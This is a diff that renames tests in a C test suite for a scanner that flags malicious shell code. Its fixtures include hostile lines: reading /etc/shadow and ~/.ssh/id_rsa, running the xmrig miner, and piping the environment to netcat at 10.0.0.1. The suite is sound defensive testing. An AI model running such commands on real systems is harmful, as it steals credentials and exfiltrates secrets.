@@ -107,7 +107,7 @@ static const struct {
 	/* clang-format on */
 };
 
-TEST(every_rule_finds_what_it_is_for)
+TEST(every_scan_rule_finds_its_example)
 {
 	for (unsigned i = 0; i < ARRAY_LEN(bad); i++) {
 		json_t *all = scan(bad[i].language, bad[i].text);
@@ -124,7 +124,7 @@ TEST(every_rule_finds_what_it_is_for)
 	}
 }
 
-TEST(every_rule_has_a_text)
+TEST(every_scan_rule_has_a_message)
 {
 	json_t *rules = scan_rules();
 	const json_t *one;
@@ -147,7 +147,7 @@ TEST(every_rule_has_a_text)
 	CHECK_INT(missing, 0);
 }
 
-TEST(honest_programs_are_left_alone)
+TEST(harmless_programs_have_no_findings)
 {
 	static const struct {
 		const char *language, *text;
@@ -180,14 +180,14 @@ TEST(honest_programs_are_left_alone)
 		if (json_array_size(all))
 			printf("# %s in: %s", doc_text(json_array_get(all, 0), "rule"),
 			       good[i].text);
-		/* fork in a loop that ends cannot be told from one that does not */
+		/* fork in a loop that ends cannot be distinguished from one that does not */
 		if (i != 8)
 			CHECK_INT(json_array_size(all), 0);
 		json_decref(all);
 	}
 }
 
-TEST(the_worst_comes_first)
+TEST(findings_are_sorted_by_severity)
 {
 	json_t *all = scan("bash", "cat /etc/shadow\n./xmrig\ncat ~/.ssh/id_rsa\n");
 
@@ -196,7 +196,7 @@ TEST(the_worst_comes_first)
 	json_decref(all);
 }
 
-TEST(a_file_is_of_its_own_language)
+TEST(each_file_is_scanned_by_the_rules_of_its_language)
 {
 	json_t *files =
 		json_pack("{s:s, s:s}", "main.py", "print(1)\n", "run.sh", "env | nc 10.0.0.1 1\n");
@@ -208,7 +208,7 @@ TEST(a_file_is_of_its_own_language)
 	json_decref(files);
 }
 
-TEST(a_team_decides_what_is_done_about_it)
+TEST(the_policy_of_a_team_decides_the_action)
 {
 	json_t *all = scan("bash", "./xmrig\ncat /etc/shadow\n");
 
@@ -225,7 +225,7 @@ TEST(a_team_decides_what_is_done_about_it)
 	json_decref(all);
 }
 
-TEST(nothing_is_nothing)
+TEST(empty_input_has_no_result)
 {
 	static const char *const files[] = { "{}", "null", "[]", "1",
 					     "{\"a\": 1, \"b\": null, \"c\": \"\"}" };
@@ -259,7 +259,7 @@ static double cost(const char *language, const char *words)
 	return (double)(clock() - from) / CLOCKS_PER_SEC;
 }
 
-TEST(a_hostile_text_costs_what_a_long_one_costs)
+TEST(scanning_a_hostile_text_is_not_slower_than_a_long_one)
 {
 	static const char *const words[] = {
 		"a",           "nc nc ",     "env\n",         "curl -s x |", "()\n",
@@ -278,7 +278,7 @@ TEST(a_hostile_text_costs_what_a_long_one_costs)
 	}
 }
 
-TEST(what_is_too_large_is_said)
+TEST(a_file_that_is_too_large_to_scan_is_reported)
 {
 	auto_buf struct buf big = { 0 };
 	json_t *all;
